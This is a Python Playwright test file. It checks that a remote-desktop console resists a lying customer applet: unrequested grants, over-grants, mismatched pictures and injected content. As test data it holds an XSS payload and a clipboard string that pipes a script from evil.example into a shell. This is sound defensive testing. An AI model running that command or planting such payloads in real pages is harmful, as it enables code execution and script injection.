"""A customer's page that lies in every message gets no more out of the console than an honest one."""

from pathlib import Path

from playwright.async_api import Browser, expect

from codec.wire.access import Access
from codec.wire.messages import (
    Answered,
    Ask,
    Asking,
    ClipboardText,
    Computer,
    Display,
    Displays,
    Granted,
    Key,
    Picture,
    PointerButton,
    PointerMove,
    Shown,
    Watch,
)
from tests.browser.test_hostile_applet import SMALL, hostile, watched
from tests.support.packets import every_kind

EVERYTHING = (*Access, "chat", "hologram")
SCRIPT = "<img src=x onerror=alert(1)>"


async def test_a_page_that_says_it_can_do_everything_is_offered_what_a_page_can(
    browser: Browser, tmp_path: Path
) -> None:
    async with hostile(browser, tmp_path, page_with=EVERYTHING) as (page, applet):
        await expect(page.get_by_role("button", name="Request viewing")).to_be_visible(timeout=20_000)
        for name in ("Request control", "Request the clipboard"):
            await expect(page.get_by_role("button", name=name)).to_have_count(0)
        applet.say(Computer(99, SCRIPT, SCRIPT, "xx"))
        applet.say(Granted(frozenset({Access.CONTROL})))  # nobody has asked
        applet.say(Displays([Display(0, SCRIPT, 0, 0, 64, 48)]))
        applet.say(Picture(0, 0, every_kind(64, 48, 1, 1)[0]))
        applet.say(ClipboardText("curl https://evil.example | sh"))
        await page.get_by_role("button", name="Request viewing").click()
        asked = await applet.hear(Ask)
        assert asked.access is Access.VIEW
        assert await page.locator("canvas").count() == 0
        applet.say(Asking(asked.number))
        applet.say(Granted(frozenset({Access.VIEW, Access.CONTROL, Access.CLIPBOARD})))  # more than was asked
        applet.say(Answered(asked.number, True))
        applet.say(Displays([Display(0, SCRIPT, 0, 0, 64, 48), Display(1, "second", 0, 0, 64, 48)]))
        await applet.hear(Watch, lambda each: each.display == 0)
        applet.say(Picture(0, 1, every_kind(64, 48, 1, 1)[0]))
        await applet.hear(Shown, lambda each: each.number == 1)
        await page.locator(".keys").click()
        await page.keyboard.type("hunter2")
        await expect(page.get_by_role("toolbar").get_by_role("button", name="Control…")).to_be_visible()
        await expect(page.get_by_role("toolbar").get_by_role("button", name="clipboard")).to_have_count(0)
        assert await page.locator("img[src=x]").count() == 0
        assert not [each for each in applet.heard if isinstance(each, Key | PointerMove | PointerButton)]
        assert not [each for each in applet.heard if isinstance(each, ClipboardText)]
        applet.say(Granted(frozenset(Access)))
        await expect(page.get_by_text("The session has ended", exact=True)).to_be_visible()


async def test_a_picture_in_another_size_or_of_another_display_than_announced_is_not_shown(
    browser: Browser, tmp_path: Path
) -> None:
    async with hostile(browser, tmp_path, page_with=("view", "chat")) as (page, applet):
        await watched(page, applet, SMALL)
        larger = every_kind(640, 480, 1, 1)[0]
        for number, (display, packet) in enumerate([(SMALL.id, larger), (7, every_kind(64, 48, 1, 1)[0])]):
            applet.say(Picture(display, number, packet))
        applet.say(Picture(SMALL.id, 9, every_kind(64, 48, 2, 1)[0]))
        await applet.hear(Shown, lambda each: each.number == 9)
        assert not [each for each in applet.heard if isinstance(each, Shown)]
        assert await page.evaluate("document.querySelector('canvas').width") == SMALL.width
